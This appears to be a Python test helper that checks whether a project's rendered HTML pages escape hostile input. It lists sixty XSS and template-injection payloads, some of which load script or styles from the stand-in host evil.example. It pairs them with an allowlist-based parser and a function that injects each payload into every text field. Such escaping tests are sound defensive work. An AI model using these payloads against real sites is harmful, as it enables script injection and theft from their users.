"""Texts that try to become more than text on a page, and a reader that says whether they did."""

import re
from html.parser import HTMLParser
from typing import Final

import attrs

from prioritize.model.project import Names
from prioritize.text import Message


PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><img src onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "</style><script>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<table background=javascript:alert(1)>",
    "<div style=background:url(javascript:alert(1))>",
    "<div style=width:expression(alert(1))>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</bdi><script>alert(1)</script><bdi>",
    "--><script>alert(1)</script><!--",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1.0?><x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "java\x00script:alert(1)<b\x00 onclick=alert(1)>",
    "\u202e<script>\u2066alert(1)\u2069</script>\u2068",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{0.__class__}{blank}{rules!r}${7*7}#{7*7}<%= 7*7 %>",
    '=HYPERLINK("http://evil.example","x")\r\n<script>alert(1)</script>',
)
"""Sixty of them, from all the classes that cheat sheets list."""

_ELEMENTS: Final = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "main",
        "section",
        "header",
        "footer",
        "div",
        "span",
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "bdi",
        "b",
        "i",
        "em",
        "strong",
        "small",
        "sup",
        "br",
        "dl",
        "dt",
        "dd",
        "ul",
        "ol",
        "li",
        "table",
        "caption",
        "colgroup",
        "col",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "svg",
        "text",
        "rect",
        "path",
        "title",
        "desc",
        "g",
        "line",
        "circle",
        "figure",
        "figcaption",
    ]
)
_ATTRIBUTES: Final = re.compile(
    "lang|class|id|scope|charset|name|content|http-equiv|colspan|rowspan|span|role|aria-[a-z]+"
    "|viewbox|transform|x|y|width|height|d|fill|stroke|stroke-[a-z]+|preserveaspectratio"
    "|version|xmlns|font-size|text-anchor|x1|x2|y1|y2|cx|cy|r"
)


class Page(HTMLParser):
    """What a browser would make of a page: its texts, those from outside, and what is not allowed.

    Attributes
    ----------
    foreign
        Elements and attributes that no page of ours has.
    outside
        The texts within ``<bdi>``.
    text, whole
        Everything else that can be read, and all of it together.

    """

    def __init__(self, content: bytes) -> None:
        super().__init__(convert_charrefs=True)
        self.foreign: list[str] = []
        self.outside: list[str] = []
        self.text = ""
        self.whole = ""
        self._open: list[str] = []
        self.feed(content.decode())
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._open.append(tag)
        if tag not in _ELEMENTS:
            self.foreign.append(tag)
        self.foreign.extend(name for name, _ in attrs if not _ATTRIBUTES.fullmatch(name))
        if tag == "bdi":
            self.outside.append("")

    def handle_endtag(self, tag: str) -> None:
        while self._open and self._open.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        if "style" in self._open:
            return
        self.whole += data
        if "bdi" in self._open:
            self.outside[-1] += data
        else:
            self.text += data

    def handle_comment(self, data: str) -> None:
        self.foreign.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.foreign.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.foreign.append(f"<![{data}]>")


def poisoned(value: object, payload: str) -> object:
    """Put a text into every field of a value that holds text, however deep."""
    if isinstance(value, str):
        return payload
    if isinstance(value, tuple):
        return tuple(poisoned(each, payload) for each in value)
    if isinstance(value, Message):
        return attrs.evolve(value, facts=tuple((name, payload) for name, _ in value.facts))
    if isinstance(value, Names):
        return Names(tuple((language, payload) for language, _ in value.texts))
    fields = [each.name for each in getattr(type(value), "__attrs_attrs__", ())]
    if fields:
        return type(value)(**{name: poisoned(getattr(value, name), payload) for name in fields})
    return value
